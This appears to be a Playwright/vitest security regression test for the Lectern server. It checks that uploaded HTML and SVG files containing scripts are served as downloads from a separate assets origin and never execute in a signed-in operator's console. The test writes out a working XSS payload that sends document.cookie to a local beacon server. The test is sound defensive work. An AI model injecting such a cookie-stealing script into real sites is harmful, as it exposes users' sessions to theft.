import { mkdtempSync, rmSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Browser, BrowserContext } from 'playwright-core';
import { loadConfig } from '@lectern/config';
import { startEmbedded, type EmbeddedServer } from './embedded.ts';
import { startSettings } from './settings.ts';
import { findChromium, launchChromium } from './testing/console-browser.ts';

/*
 * Issue 27, finding 3, as the operator meets it: a content creator uploads a page or an SVG with
 * a script and sends its link; the operator, signed in to the console, opens it. The link is a
 * download from the assets origin: nothing runs, and nothing reads the console's cookies.
 */

const operatorToken = 'assets-browser-operator-token-of-32-characters';
const executable = findChromium();
if (executable === null) console.warn('SKIPPING the assets origin browser test: no chromium on PATH');

describe.skipIf(executable === null)('an uploaded page opened by a signed-in operator', () => {
  let dataDir: string;
  let server: EmbeddedServer;
  let browser: Browser;
  let context: BrowserContext;
  let beacon: Server;
  const hits: string[] = [];
  const links: Record<string, string> = {};

  beforeAll(async () => {
    beacon = createServer((req, res) => {
      hits.push(req.url ?? '');
      res.writeHead(204).end();
    });
    await new Promise<void>((resolve) => beacon.listen(0, '127.0.0.1', resolve));
    const beaconUrl = `http://127.0.0.1:${(beacon.address() as { port: number }).port}`;
    const steal = `new Image().src = '${beaconUrl}/ran?at=' + encodeURIComponent(location.origin) + '&cookie=' + encodeURIComponent(document.cookie);`;

    dataDir = mkdtempSync(join(tmpdir(), 'lectern-assets-browser-'));
    const config = loadConfig({
      settings: startSettings,
      env: { LECTERN_DATA_DIR: dataDir, LECTERN_PORT_BASE: '0', LECTERN_LOG_LEVEL: 'silent', LECTERN_OPERATOR_TOKEN: operatorToken },
    });
    server = await startEmbedded(config);
    const projectId = server.demo?.project.id ?? '';
    const key = server.demo?.keys.find((k) => k.key.kind === 'management')?.secret ?? '';
    const files = {
      'x.html': ['text/html', `<!doctype html><title>x</title><script>${steal}</script>`],
      'x.svg': ['image/svg+xml', `<svg xmlns="http://www.w3.org/2000/svg"><script>${steal}</script></svg>`],
    };
    for (const [name, [type, body]] of Object.entries(files)) {
      const base = `${server.urls.management}/v2/projects/${projectId}`;
      const file = (await (
        await fetch(`${base}/files/${name}`, { method: 'POST', headers: { authorization: `Bearer ${key}`, 'content-type': type }, body })
      ).json()) as { id: string };
      const asset = (await (
        await fetch(`${base}/assets`, {
          method: 'POST',
          headers: { authorization: `Bearer ${key}`, 'content-type': 'application/json' },
          body: JSON.stringify({ file_reference: { id: file.id, type: 'internal' } }),
        })
      ).json()) as { url: string };
      links[name] = asset.url;
    }

    browser = await launchChromium(executable as string);
    context = await browser.newContext({ acceptDownloads: true });
    // A cookie a script on the console's origin could read (the session cookie is HttpOnly).
    await context.addCookies([{ name: 'console_visible', value: 'secret', url: server.urls.management }]);
    const page = await context.newPage();
    await page.goto(`${server.urls.management}/console`);
    await page.getByLabel('Operator token or management API key').fill(operatorToken);
    await page.getByRole('button', { name: 'Sign in' }).click();
    await page.getByRole('heading', { name: 'Projects', level: 1 }).waitFor();
    await page.close();
  });
  afterAll(async () => {
    await browser?.close();
    await server?.stop();
    await new Promise<void>((resolve) => (beacon ? beacon.close(() => resolve()) : resolve()));
    rmSync(dataDir, { recursive: true, force: true });
  });

  for (const name of ['x.html', 'x.svg']) {
    it(`${name} through its old console-origin link is a download from the assets origin; its script never runs`, async () => {
      const link = links[name] ?? '';
      const page = await context.newPage();
      // A download, or a page rendered (and its script run) wherever the link led.
      const outcome = Promise.race([
        page.waitForEvent('download', { timeout: 20_000 }),
        page.waitForEvent('load', { timeout: 20_000 }).then(() => null),
      ]);
      // Chromium aborts the navigation when it turns into a download.
      await page.goto(`${server.urls.management}${new URL(link).pathname}`).catch(() => undefined);
      const file = await outcome;
      expect(file, `${name} was rendered as a page at ${page.url()}`).not.toBeNull();
      expect(file?.url()).toBe(link);
      expect(file?.suggestedFilename()).toBe(name);
      // The page that held the link is still blank: nothing was rendered, so nothing could run.
      expect(await page.evaluate<string>('document.title')).toBe('');
      await page.close();
      expect(hits).toEqual([]);
    });
  }
});
